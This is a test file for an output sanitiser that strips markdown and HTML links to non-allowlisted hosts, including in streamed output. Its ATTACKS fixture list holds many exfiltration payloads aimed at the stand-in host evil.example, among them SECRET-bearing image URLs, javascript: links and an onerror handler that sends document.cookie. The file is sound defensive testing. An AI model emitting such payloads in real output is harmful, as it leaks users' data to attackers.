"""The output sanitiser: attack strings, a renderer as oracle, streaming = whole."""

from __future__ import annotations

import html
import html.parser
import random
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tandem.agents.privacy.hygiene import StreamSanitizer, sanitize_output
from tandem.agents.privacy.urls import host_matches, url_target

ALLOWED = ("gov.uk", "docs.python.org")

ATTACKS = [
    "![y](http://evil.example\\@gov.uk/p.png?d=SECRET)",
    "![y](https://evil.example/p.png?d=SECRET)",
    "![y](//evil.example/p.png?d=SECRET)",
    "![y](\\\\evil.example/p.png?d=SECRET)",
    "![y](/\\evil.example/p.png?d=SECRET)",
    "![y]( <//evil.example/p.png?d=SECRET> )",
    "![y](https://gov.uk.evil.example/p.png)",
    "![y](https://evilgov.uk/p.png)",
    "![y](https://user:pw@gov.uk/p.png)",
    "![y](https://EVIL%2Eexample/p.png)",
    "![y](https://ｅｖｉｌ.example/p.png)",
    "![y](https&#58;//evil.example/p.png)",
    "![y](https&colon;//evil.example/p.png)",
    "![y](https\\://evil.example/p.png)",
    "![y](ht\ttps://evil.example/p.png)",
    "![y](https:evil.example/p.png)",
    "![y](https:/\\evil.example/p.png)",
    "![y](data:image/png;base64,AAAA)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    '[click](https://evil.example/?q=SECRET "title")',
    "[a [nested] b](https://evil.example/?q=SECRET)",
    "[![img](https://evil.example/i.png)](https://gov.uk/)",
    "[x](https://gov.uk/)(//evil.example/p.png)",
    "![a](//evil.example/a.png)(//evil.example/b)",
    "[ref]: //evil.example/p.png?d=SECRET\n\n![y][ref]",
    "[ref]:\n  https://evil.example/p.png?d=SECRET",
    "  [ref]: <https://evil.example/p.png> 'title'",
    "[x] (https://evil.example) spaced",
    "[a `]` b](https://evil.example/?q=SECRET)",
    "<img src=https://evil.example/p.png?d=SECRET>",
    '<img src="x" srcset="a.png 1x, //evil.example/b.png 2x">',
    "<IMG SRC='//evil.example/p.png'>",
    "<img/src=//evil.example/p.png>",
    "<img alt=x's src=//evil.example/p.png>",
    "<img src=x onerror=\"fetch('//evil.example/?d='+document.cookie)\">",
    "<svg><image href=//evil.example/p.png?d=SECRET></svg>",
    '<svg><image xlink:href="https://evil.example/p.png"/></svg>',
    '<div style="background:url(//evil.example/p.png)">x</div>',
    "<div style='background-image: url(\"https://evil.example/p.png\")'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<iframe src=https://gov.uk/></iframe>",
    '<a href="https://evil.example/?d=SECRET">click me</a>',
    "<a href=//evil.example>x</a>",
    "<video poster=//evil.example/p.png></video>",
    "<https://evil.example/?d=SECRET>",
    "<ftp://evil.example/x>",
    "https://evil.example/p.png?d=SECRET",
    "http://evil.example\\@gov.uk/p",
    "(see https://evil.example/x?d=SECRET).",
    "HTTPS://EVIL.EXAMPLE/X",
    "www.evil.example/steal?d=SECRET",
    "*www.evil.example/steal?d=SECRET*",
    "evil.com/steal?d=SECRET",
    "x=https://evil.example/?d=SECRET",
    "https://gov.uk/redirect?to=https://evil.example/?d=SECRET",
    "<img src=https://gov.uk/x?https://evil.example>",
    "<img src=//evil.example/p.png",
    "[x](https://evil.example/p",
    "wss://evil.example/socket",
    "<a\nhref=//evil.example>x</a>",
]

SAFE = [
    "The deposit is capped at five weeks' rent (Housing Act 2004, s.213).",
    "See [the guidance](https://www.gov.uk/deposit-protection-schemes-and-landlords).",
    "![chart](https://assets.gov.uk/chart.png)",
    "Docs: https://docs.python.org/3/library/re.html.",
    "Use `a < b` and a<b>c</b>, List<String>, x > 2.",
    "[local anchor](#section) and [relative](guide/part-2.md)",
    "Node.js/Deno and 1.5/2 and e.g./i.e. stay; C:\\Users\\me too.",
    "Email me at a.b@example.com or <a.b@example.com>.",
    "| a | b |\n|---|---|\n| [x] | y |\n\n- [ ] task",
    "Footnote[^1] and array[0](1) indexing.",
]


class _Links(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value and name in ("href", "src", "srcset", "xlink:href", "poster", "style"):
                self.urls.append(value)


def _rendered_urls(markdown: str) -> list[str]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True, "linkify": False})
    return _html_urls(md.render(markdown))


def _html_urls(page: str) -> list[str]:
    """URL attributes in ``page``: html.parser's reading plus a loose regex (it may choke)."""
    parser = _Links()
    try:
        parser.feed(page)
        parser.close()
    except AssertionError:
        pass
    loose = [
        v
        for tag in re.findall(r"<[A-Za-z][^>]*>?", page)
        for v in re.findall(
            r"[\s/](?:href|src|srcset|poster|style)\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]+)", tag, re.I
        )
    ]
    return parser.urls + [html.unescape(v.strip("\"'")) for v in loose]


def _reaches_off_list(url: str) -> bool:
    t = url_target(url)
    if t.kind == "none" or (t.scheme == "mailto" and "?" not in url):
        return False
    if t.kind != "network":
        return True
    return t.userinfo or not host_matches(t.host, ALLOWED)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_neutralised(attack: str) -> None:
    out = sanitize_output(attack, ALLOWED)
    bare = r"(?<![a-z0-9])(?:https?|ftps?|wss?):[/\\]*[^\s()<>\"']*evil|www\.evil"
    assert not re.search(bare, out, re.I), out
    for url in _rendered_urls(out):
        assert not _reaches_off_list(url), (attack, out, url)
    assert "javascript" not in out.lower()
    assert sanitize_output(out, ALLOWED) == out  # idempotent: nothing new was formed


@pytest.mark.parametrize("text", SAFE)
def test_safe_text_is_unchanged(text: str) -> None:
    assert sanitize_output(text, (*ALLOWED, "assets.gov.uk", "www.gov.uk")) == text


def test_replacement_formats() -> None:
    assert sanitize_output("![a chart](https://evil.example/p.png)") == "(image removed: a chart)"
    assert sanitize_output("![](https://evil.example/p.png)") == "(image removed)"
    assert sanitize_output("see [docs](https://evil.example/) now") == "see docs (link removed) now"
    assert sanitize_output("go to https://evil.example/x.") == "go to (link removed)."
    assert sanitize_output("[r]: https://evil.example/") == "[r]: (link removed)"


def test_backslash_userinfo_host_is_the_browser_one() -> None:
    out = sanitize_output("![y](http://evil.example\\@gov.uk/p.png?d=1)", ["gov.uk"])
    assert out == "(image removed: y)"
    assert sanitize_output("![y](http://gov.uk/p.png)", ["gov.uk"]) == "![y](http://gov.uk/p.png)"


def _stream(text: str, cuts: list[int], allowed=ALLOWED) -> str:
    s = StreamSanitizer(allowed)
    out, last = [], 0
    for c in [*sorted(set(cuts)), len(text)]:
        out.append(s.feed(text[last:c]))
        last = c
    out.append(s.finish())
    return "".join(out)


@pytest.mark.parametrize("text", ATTACKS + SAFE)
def test_stream_every_single_split(text: str) -> None:
    whole = sanitize_output(text, ALLOWED)
    for k in range(len(text) + 1):
        assert _stream(text, [k]) == whole, k
    assert _stream(text, list(range(len(text)))) == whole  # one character at a time


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(ATTACKS + SAFE), st.lists(st.integers(min_value=0, max_value=200), max_size=12)
)
def test_stream_random_splits_of_attacks(text: str, cuts: list[int]) -> None:
    cuts = [c % (len(text) + 1) for c in cuts]
    assert _stream(text, cuts) == sanitize_output(text, ALLOWED)


_PIECES = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "](",
        "]:",
        "img ",
        "<img src=",
        "<a href=",
        "</a>",
        "//",
        "\\",
        "@",
        "https://",
        "http:",
        "www.",
        "evil.example",
        "gov.uk",
        "/p.png",
        "?d=S",
        " ",
        "\n",
        "\n\n",
        '"',
        "'",
        "x",
        "alt",
        "&#58;",
        ".",
        "com/",
        "`",
        "!",
        "*",
        "=",
        "srcset=",
        "javascript:",
        "style=url(",
        "#",
        "<svg><image href=",
        "\t",
        ":",
        "é",
        "ｅ",
    ]
)


def _markup_property(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    whole = sanitize_output(text, ALLOWED)
    cuts = [c % (len(text) + 1) for c in cuts]
    assert _stream(text, cuts) == whole
    for url in _rendered_urls(whole):
        assert not _reaches_off_list(url), (text, whole, url)
    assert sanitize_output(whole, ALLOWED) == whole


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(_PIECES, max_size=25), st.lists(st.integers(min_value=0, max_value=400), max_size=10)
)
def test_random_markup_streams_equal_and_render_safely(pieces: list[str], cuts: list[int]) -> None:
    _markup_property(pieces, cuts)


@pytest.mark.slow
@settings(max_examples=5000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(_PIECES, max_size=40), st.lists(st.integers(min_value=0, max_value=600), max_size=16)
)
def test_random_markup_many_more_examples(pieces: list[str], cuts: list[int]) -> None:
    _markup_property(pieces, cuts)


def test_stream_releases_safe_text_promptly() -> None:
    s = StreamSanitizer(ALLOWED)
    assert s.feed("The answer is ") == "The answer is "
    assert s.feed("forty two") == "forty "  # "two" could still become "two.com/…"
    assert s.feed(" and ![x](https://evil") == "two and "
    assert s.feed(".example/p.png) done ") == "(image removed: x) done "
    assert s.finish() == ""


def test_stream_holds_back_only_the_open_construct() -> None:
    s = StreamSanitizer(ALLOWED)
    out = s.feed("text " * 50 + "[a link")
    assert out == "text " * 50 and s.pending == "[a link"


def test_long_unclosed_tag_is_made_inert() -> None:
    text = "a<img " + "x" * 5000 + " src=//evil.example/p.png>"
    out = sanitize_output(text, ALLOWED)
    assert "<img" not in out
    assert _stream(text, [10, 100, 4000, 5003]) == out


def test_stream_large_random_document() -> None:
    rng = random.Random(7)
    doc = "\n".join(rng.choice(ATTACKS + SAFE) for _ in range(200))
    whole = sanitize_output(doc, ALLOWED)
    cuts = sorted(rng.randrange(len(doc)) for _ in range(400))
    assert _stream(doc, cuts) == whole
